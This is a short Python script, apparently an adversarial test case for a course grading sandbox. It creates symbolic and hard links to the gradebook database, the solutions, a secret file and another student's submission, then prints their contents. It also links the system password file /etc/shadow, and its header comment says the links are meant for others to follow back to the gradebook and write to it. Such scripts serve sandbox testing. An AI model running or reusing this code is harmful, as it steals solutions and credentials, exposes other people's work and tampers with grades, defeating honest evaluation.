# read: links in its scratch folder, soft and hard, that others might follow to the gradebook and write back
# place: last
import os

root = "{root}"  # the runner puts the course's own folder here
for name in ("gradebook.db", "solutions/tiny.py", ".secret", "submitted/honest-1/tiny/notes.txt"):
    base = os.path.basename(name)
    for make in (os.symlink, os.link):
        for target in (base, f"{base}.ipynb", "tiny.ipynb", "results.json", "notes.txt"):
            try:
                make(f"{root}/{name}", target)
                print(target, open(target, "rb").read())
            except OSError:
                pass
os.symlink("/proc/self/root/etc/shadow", "shadow")
